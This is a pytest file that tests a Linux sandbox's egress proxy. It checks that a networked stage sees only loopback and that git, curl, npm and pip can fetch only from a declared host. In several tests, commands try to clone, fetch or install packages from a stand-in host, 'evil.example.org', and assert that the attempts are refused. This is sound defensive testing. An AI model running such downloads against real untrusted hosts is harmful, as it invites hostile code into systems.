"""A stage that may use the network: nothing but its own loopback, a proxy on it, and real programs
that find it.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import subprocess
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from factory.egress.connection import Connection, Reason, Verdict
from factory.egress.reach import Reach
from factory.plan.stages import PackSandbox, PackStage
from factory.sandbox.properties import Property
from factory.sandbox.supervisor import PROXY
from factory.sandbox.values import CommandOutcome
from tests.egress_kit import Authority, Map, https
from tests.hostile.extent import WHOLE
from tests.sandbox_kit import BUBBLEWRAPS, NOTHING, SMALL, run, sandbox

pytestmark = pytest.mark.linux

HOST = "files.example.org"
DECLARED = Reach((HOST,))


@pytest.fixture(scope="module")
def authority() -> Authority:
    return Authority()


@pytest.fixture(scope="module")
def files(
    authority: Authority, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Path, Map]]:
    """A folder that `HOST` serves."""
    folder = tmp_path_factory.mktemp("served")
    (folder / "a.txt").write_text("over the wire\n")
    with https(folder, authority.context(tmp_path_factory.mktemp("keys"), HOST)) as port:
        found = Map()
        found.add(HOST, port)
        yield folder, found


@pytest.fixture(scope="module", params=BUBBLEWRAPS)
def made(
    request: pytest.FixtureRequest,
    files: tuple[Path, Map],
    authority: Authority,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[PackSandbox]:
    texts = {"ca.pem": authority.pem.decode(), "a.txt": "a\n"}
    root = tmp_path_factory.mktemp("sandbox")
    with sandbox(root, bubblewrap=request.param, texts=texts, outside=files[1].outside) as (
        built,
        _,
    ):
        yield built


@contextlib.contextmanager
def stage(made: PackSandbox, reach: Reach | None = DECLARED) -> Iterator[PackStage]:
    opened = made.open(NOTHING, SMALL, "stage", reach)
    try:
        yield opened
    finally:
        opened.close()


def python(program: str) -> str:
    return f"python -I -S -c '{program}'"


FETCH = """
import ssl, sys, urllib.request
context = ssl.create_default_context(cafile="/workspace/ca.pem")
try:
    with urllib.request.urlopen(sys.argv[1], context=context, timeout=20) as answer:
        print(answer.read().decode(), end="")
except OSError as error:
    print("refused:", error)
"""


def fetch(url: str) -> str:
    return f"python -I -S -c '{FETCH}' {url}"


def found_inside(program: str) -> bool:
    """Whether a stage has a program of the system's."""
    return shutil.which(program, path="/usr/local/bin:/usr/bin:/bin") is not None


def test_pythons_own_client_finds_the_proxy_and_every_command_has_its_record(
    made: PackSandbox,
) -> None:
    with stage(made) as opened:
        first = run(opened, fetch(f"https://{HOST}/a.txt"))
        records = opened.connections()
        second = run(opened, fetch("https://other.example.org/"))
        third = run(opened, fetch(f"http://{HOST}/"))
        more = opened.connections()
        assert opened.connections() == ()
    assert first.log == b"over the wire\n"
    assert [(one.host, one.verdict, one.reason) for one in records] == [
        (HOST, Verdict.ALLOWED, Reason.DONE)
    ]
    assert records[0].bytes_down > len(b"over the wire\n")
    assert b"refused:" in second.log
    assert b"not-declared" in second.log
    assert b"405" in third.log
    assert [(one.host, one.reason) for one in more] == [
        ("other.example.org", Reason.NOT_DECLARED),
        ("", Reason.NOT_CONNECT),
    ]


NET = """
import json, socket, sys
told = {"interfaces": [name for _, name in socket.if_nameindex()]}
for port in map(int, sys.argv[1:3]):
    with socket.socket() as client:
        client.settimeout(5)
        told[str(port)] = client.connect_ex(("127.0.0.1", port))
with socket.socket(socket.AF_UNIX) as client:
    told["abstract"] = client.connect_ex("\\0" + sys.argv[3])
with socket.socket() as client:
    client.settimeout(5)
    told["outside"] = client.connect_ex(("9.9.9.9", 443))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    try:
        client.sendto(b"x", ("9.9.9.9", 53))
        told["datagram"] = "sent"
    except OSError:
        told["datagram"] = "refused"
print(json.dumps(told))
"""


def test_the_probe_shows_that_a_stage_with_network_is_isolated_too(made: PackSandbox) -> None:
    plain, networked = made.measure(), made.measure(network=True)
    assert Property.NET_ISOLATED in networked.given
    assert networked.escaped == ()
    assert networked.given == plain.given
    assert "with a listener for the proxy: tried and refused: tcp, udp" in networked.why_not(
        Property.NET_ISOLATED
    )
    assert "proxy" not in plain.why_not(Property.NET_ISOLATED), (
        "who declares no network pays for no second probe"
    )


@pytest.mark.parametrize("reach", [DECLARED, None])
def test_inside_there_is_only_loopback_and_the_listener_of_its_own(
    made: PackSandbox, reach: Reach | None
) -> None:
    with (
        socket.create_server(("127.0.0.1", 0)) as bait,
        socket.socket(socket.AF_UNIX) as abstract,
        stage(made, reach) as opened,
        stage(made) as other,
    ):
        name = f"bait-{os.urandom(8).hex()}"
        abstract.bind("\0" + name)
        abstract.listen()
        port = bait.getsockname()[1]
        seen = run(opened, f"python -I -S -c '{NET}' {port} {PROXY[1]} {name}")
        told = json.loads(seen.log)
        assert other.connections() == (), (
            "the listener of another stage is not the one that was reached"
        )
        own = opened.connections()
    assert told["interfaces"] == ["lo"]
    assert told[str(port)] != 0
    assert told["abstract"] != 0
    assert told["outside"] != 0
    assert told["datagram"] == "refused"
    assert (told[str(PROXY[1])] == 0) is (reach is not None), (
        "no listener at all where nothing is declared"
    )
    assert [one.reason for one in own] == ([Reason.LEFT] if reach is not None else [])


def test_variables_of_the_proxy_are_there_only_where_network_is(made: PackSandbox) -> None:
    with stage(made) as with_network, stage(made, None) as without:
        told = run(with_network, "env | grep -i proxy | sort").log.decode()
        assert run(without, "env | grep -i proxy").log == b""
    here = f"http://127.0.0.1:{PROXY[1]}"
    for name in (
        "HTTPS_PROXY",
        "https_proxy",
        "HTTP_PROXY",
        "http_proxy",
        "ALL_PROXY",
        "all_proxy",
    ):
        assert f"{name}={here}\n" in told


def test_what_a_command_left_behind_is_dead_before_its_connections_are_told(
    made: PackSandbox,
) -> None:
    hold = (
        f'import socket, time; held = [socket.create_connection(("127.0.0.1", {PROXY[1]}))'
        ' for _ in "abc"]'
    )
    with stage(made) as opened:
        run(opened, f"{python(hold + '; time.sleep(600)')} & sleep 0.5")
        assert [one.reason for one in opened.connections()] == [Reason.LEFT] * 3
        assert run(opened, fetch(f"https://{HOST}/a.txt")).log == b"over the wire\n"


def test_a_closed_stage_leaves_no_listener_and_no_thread(made: PackSandbox) -> None:
    before = set(os.listdir("/proc/self/fd"))
    with stage(made):
        pass
    assert len(os.listdir("/proc/self/fd")) <= len(before)


# ── the programs that people use ─────────────────────────────────────────────


def test_real_git_clones_through_the_proxy(
    made: PackSandbox, files: tuple[Path, Map], tmp_path: Path
) -> None:
    folder, _ = files
    source = tmp_path / "source"
    identity = ("-c", "user.name=A", "-c", "user.email=a@example.org", "-c", "commit.gpgsign=false")
    environment = {
        "PATH": os.environ["PATH"],
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_CONFIG_NOSYSTEM": "1",
    }
    for words in (
        ("init", "-q", str(source)),
        ("-C", str(source), "commit", "-q", "--allow-empty", "-m", "one"),
        ("clone", "-q", "--bare", str(source), str(folder / "project.git")),
        ("-C", str(folder / "project.git"), "update-server-info"),
    ):
        subprocess.run(["git", *identity, *words], check=True, env=environment, capture_output=True)
    trust = "export GIT_SSL_CAINFO=/workspace/ca.pem"
    with stage(made) as opened:
        done = run(
            opened,
            f"{trust}; git clone -q https://{HOST}/project.git /tmp/here && git -C /tmp/here log"
            " --oneline",
        )
        records = opened.connections()
        refused = run(
            opened, f"{trust}; git clone -q https://evil.example.org/project.git /tmp/there"
        )
        more = opened.connections()
    assert done.rc == 0, done.log
    assert done.log.endswith(b" one\n")
    assert {(one.host, one.verdict) for one in records} == {(HOST, Verdict.ALLOWED)}
    assert refused.rc != 0
    assert b"403" in refused.log
    assert {(one.host, one.reason) for one in more} == {("evil.example.org", Reason.NOT_DECLARED)}


# A fresh host has neither curl nor npm. What stands in for one is in the name of its test, and `nox
# -s hostile` takes none for curl. Git brings libcurl along, and is asked above.
CURL = "curl" if found_inside("curl") else "python, since there is no curl here"
NPM = (
    "npm"
    if found_inside("npm") and found_inside("node")
    else "variables alone, since there is no npm here"
)


@pytest.mark.parametrize("client", [CURL])
def test_real_curl_reports_what_the_proxy_says(made: PackSandbox, client: str) -> None:
    assert client == "curl" or not WHOLE, (
        "expected curl below /usr, found none; install it: apt install curl"
    )
    get = (
        "curl -sS --cacert /workspace/ca.pem" if client == "curl" else f"python -I -S -c '{FETCH}'"
    )
    with stage(made) as opened:
        done = run(opened, f"{get} https://{HOST}/a.txt")
        refused = run(opened, f"{get} https://evil.example.org/")
        records = opened.connections()
    assert done.log == b"over the wire\n"
    assert b"403" in refused.log
    assert [(one.host, one.reason) for one in records] == [
        (HOST, Reason.DONE),
        ("evil.example.org", Reason.NOT_DECLARED),
    ]


def npm_package(folder: Path) -> str:
    """A tiny package in a registry of its own; its name."""
    import io
    import tarfile

    name, place = "tinypackage", folder / "npm"
    place.mkdir(exist_ok=True)
    texts = {
        "package.json": json.dumps({"name": name, "version": "1.0.0"}),
        "index.js": "console.log('installed')\n",
    }
    with tarfile.open(place / f"{name}-1.0.0.tgz", "w:gz") as archive:
        for path, text in texts.items():
            member = tarfile.TarInfo(f"package/{path}")
            member.size, member.mode = len(text), 0o644
            archive.addfile(member, io.BytesIO(text.encode()))
    version = {
        "name": name,
        "version": "1.0.0",
        "dist": {"tarball": f"https://{HOST}/npm/{name}-1.0.0.tgz"},
    }
    listed = {"name": name, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
    (place / name).write_text(json.dumps(listed))
    return name


@pytest.mark.parametrize("client", [NPM])
def test_real_npm_installs_through_the_proxy(
    made: PackSandbox, files: tuple[Path, Map], client: str
) -> None:
    name = npm_package(files[0])
    words = (
        "--no-audit --no-fund --no-update-notifier --fetch-retries 0 --cafile /workspace/ca.pem"
        " --cache /tmp/cache"
    )
    install = f"mkdir -p /tmp/site && cd /tmp/site && npm install {words} {name} --registry"
    with stage(made) as opened:
        told = run(opened, "echo $HTTPS_PROXY $https_proxy $NODE_USE_ENV_PROXY")
        proxy = f"http://{PROXY[0]}:{PROXY[1]}"
        assert told.log.decode().split() == [proxy, proxy, "1"]
        if client != "npm":
            return
        done = run(opened, f"{install} https://{HOST}/npm/ && node node_modules/{name}/index.js")
        records = opened.connections()
        refused = run(opened, f"{install} https://evil.example.org/npm/")
        more = opened.connections()
    installed_from_the_declared_host_alone(done, records, refused, more)


def installed_from_the_declared_host_alone(
    done: CommandOutcome,
    records: Sequence[Connection],
    refused: CommandOutcome,
    more: Sequence[Connection],
) -> None:
    assert done.rc == 0, done.log
    assert done.log.endswith(b"installed\n")
    assert {(one.host, one.verdict) for one in records} == {(HOST, Verdict.ALLOWED)}
    assert refused.rc != 0
    assert {(one.host, one.reason) for one in more} == {("evil.example.org", Reason.NOT_DECLARED)}


def wheel(folder: Path) -> str:
    """A tiny project as a wheel in an index of its own; its name."""
    import base64
    import hashlib
    import zipfile

    name, info = "tinyproject", "tinyproject-1.0.dist-info"
    place = folder / "simple" / name
    place.mkdir(parents=True, exist_ok=True)
    texts = {
        f"{name}.py": "print('installed')\n",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{info}/WHEEL": (
            "Wheel-Version: 1.0\nGenerator: a test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        ),
    }
    rows = [f"{info}/RECORD,,"]
    for path, text in texts.items():
        digest = (
            base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        )
        rows.append(f"{path},sha256={digest},{len(text)}")
    with zipfile.ZipFile(place / f"{name}-1.0-py3-none-any.whl", "w") as archive:
        for path, text in {**texts, f"{info}/RECORD": "\n".join(rows) + "\n"}.items():
            archive.writestr(path, text)
    (place / "index.html").write_text(f'<a href="{name}-1.0-py3-none-any.whl">{name}</a>')
    return name


def test_real_pip_installs_through_the_proxy(made: PackSandbox, files: tuple[Path, Map]) -> None:
    name = wheel(files[0])
    words = (
        "install --no-cache-dir --disable-pip-version-check --retries 0 --cert /workspace/ca.pem"
        f" {name}"
    )
    pip = "python -m pip"
    with stage(made) as opened:
        done = run(
            opened,
            f"{pip} {words} -i https://{HOST}/simple --target /tmp/site && python"
            f" /tmp/site/{name}.py",
        )
        records = opened.connections()
        refused = run(
            opened, f"{pip} {words} -i https://evil.example.org/simple --target /tmp/site"
        )
        more = opened.connections()
    installed_from_the_declared_host_alone(done, records, refused, more)
